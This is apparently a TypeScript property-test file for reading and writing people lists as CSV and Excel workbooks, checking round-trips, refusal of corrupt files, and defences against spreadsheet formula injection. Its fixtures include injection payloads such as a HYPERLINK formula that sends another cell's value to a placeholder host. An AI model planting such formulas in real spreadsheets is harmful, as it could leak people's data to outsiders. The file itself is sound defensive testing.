import { calendarDate } from '@claviger/core/kernel/calendar'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { bytesOfLatin, readingOf, shown } from '../testing/people-files.ts'
import { textRow, workbookOf } from '../testing/workbooks.ts'
import { readCsv } from './read-csv.ts'
import { readPeopleFile } from './read-people-file.ts'
import { readSheet } from './read-sheet.ts'
import { openWorkbook } from './workbook.ts'
import { writeCsv } from './write-csv.ts'
import { writeXlsx } from './write-xlsx.ts'

const odd = fc.constantFrom(
  '=1+1',
  '-2+3',
  "'=x",
  "''@y",
  '\t=1',
  '+49 30 1234',
  '-12.50',
  '"a"\nb',
  '_x000D_',
  '\r\n',
  '&<>',
)
const cell = fc.oneof(odd, fc.string({ unit: 'grapheme' }), fc.string({ unit: 'binary' }))
const row = fc.array(cell, { minLength: 3, maxLength: 3 })
const rows = fc.array(row, { maxLength: 8 })
const headings = ['E-mail', 'Name', 'Note']

type Rows = readonly (readonly string[])[]

/** Rows that hold something, as any file gives them back: what is blank is nothing. */
function filled(all: Rows, blank: (cell: string) => string): Rows {
  const kept = all.filter((cells) => cells.some((text) => text.trim() !== ''))
  return kept.map((cells) => cells.map((text) => blank(text.toWellFormed())))
}

/** No sheet holds a NUL. */
function withoutNul(all: Rows): Rows {
  return all.map((cells) => cells.map((text) => text.replaceAll('\0', '')))
}

function textsOf(read: readonly { readonly cells: readonly unknown[] }[]): Rows {
  return read.slice(1).map(({ cells }) =>
    [0, 1, 2].map((index) => {
      const one = cells[index] ?? ''
      return typeof one === 'string' ? one : (one as { text: string }).text
    }),
  )
}

async function bytesOf(stream: ReadableStream<Uint8Array>): Promise<Uint8Array> {
  return new Uint8Array(await new Response(stream).arrayBuffer())
}

describe('any rows written to a file and read again are the same', () => {
  test.each([',', ';', '\t'] as const)('as CSV cut at %j (O-29)', async (separator) => {
    await fc.assert(
      fc.asyncProperty(rows, async (all) => {
        const text = await new Response(writeCsv([headings, ...all], { separator })).text()
        const read = readCsv(text, separator)
        expect(textsOf(read.rows)).toEqual(filled(all, (one) => one))
      }),
      { numRuns: 50 },
    )
  })

  test('as a workbook (O-29)', async () => {
    await fc.assert(
      fc.asyncProperty(rows, async (all) => {
        const columns = headings.map((heading) => ({ heading }))
        const workbook = openWorkbook(await bytesOf(writeXlsx({ name: 'People', columns, rows: all })))
        const [sheet] = workbook.sheets
        const read = sheet ? readSheet(workbook, sheet).rows : []
        expect(textsOf(read)).toEqual(filled(withoutNul(all), (one) => (one.trim() === '' ? '' : one)))
      }),
      { numRuns: 50 },
    )
  })
})

test('any bytes are read or refused, twice the same', async () => {
  const names = fc.constantFrom('', 'a.csv', 'a.xlsx', 'a.vcf', 'a.eml')
  const text = fc.stringMatching(/^[a-zé@".,;<>=\r\n\t-]*$/).map(bytesOfLatin)
  await fc.assert(
    fc.asyncProperty(fc.oneof(fc.uint8Array({ maxLength: 300 }), text), names, async (bytes, name) => {
      expect(await readPeopleFile(bytes, name, {})).toEqual(await readPeopleFile(bytes, name, {}))
    }),
    { numRuns: 60 },
  )
})

test('a workbook with any byte changed is read or refused', async () => {
  const whole = workbookOf([{ name: 'A', rows: textRow(1, 'Email') + textRow(2, 'ann@example.org') }])
  const change = fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 4 })
  await fc.assert(
    fc.asyncProperty(change, async (changes) => {
      const bytes = whole.slice()
      for (const [at, value] of changes) bytes[at] = value
      const read = await readPeopleFile(bytes, 'a.xlsx', {})
      expect(read.ok ? 'read' : read.refusal.code).toMatch(/^(?:read|file_\w+)$/)
    }),
  )
})

describe('what people have called themselves', () => {
  const odd = ['=HYPERLINK("http://x.test/?"&A1,"open")', '@SUM(1+1)', '+49 30 1234', '-2+3']
  const columns = [{ heading: 'Email' }, { heading: 'Name' }, { heading: 'Team' }]
  const rows = odd.map((text, index) => [`p${index}@example.org`, index === 0 ? text : 'Ann', text])
  const read = odd.map(
    (text, index) => `${index + 2} ${index === 0 ? text : 'Ann'} <p${index}@example.org> [${text}/]`,
  )

  test('is text in an exported CSV, readable, and itself again when imported (O-29)', async () => {
    const text = await new Response(writeCsv([columns.map(({ heading }) => heading), ...rows])).text()
    expect(text).toContain(`,"'=HYPERLINK(""http://x.test/?""&A1,""open"")"`)
    expect(text).toContain(",'-2+3\r\n")
    expect(text).toContain(',+49 30 1234\r\n')
    expect((await readingOf(text)).rows.map(shown)).toEqual(read)
  })

  test('is text in an exported workbook, and itself again when imported (O-29)', async () => {
    const bytes = await bytesOf(writeXlsx({ name: 'People', columns, rows }))
    expect((await readingOf(bytes, 'people.xlsx')).rows.map(shown)).toEqual(read)
  })

  test('is a formula to look at when somebody else has written it (O-29)', async () => {
    const { rows } = await readingOf('email,name\nann@example.org,=1+1\n=1+1@x.example,Kai')
    expect(rows.map(shown)).toEqual(['2 !looks_like_formula', '3 Kai !looks_like_formula'])
  })
})

test('days are days in a workbook, and days again when read (O-27)', async () => {
  const day = calendarDate('2027-01-12')
  const columns = [{ heading: 'Email' }, { heading: 'Valid until' }]
  const rows = day.ok ? [['ann@example.org', { day: day.plan }] as const] : []
  const bytes = await bytesOf(writeXlsx({ name: 'People', columns, rows }))
  expect((await readingOf(bytes, 'a.xlsx')).rows.map(shown)).toEqual(['2 <ann@example.org> until 2027-01-12'])
})
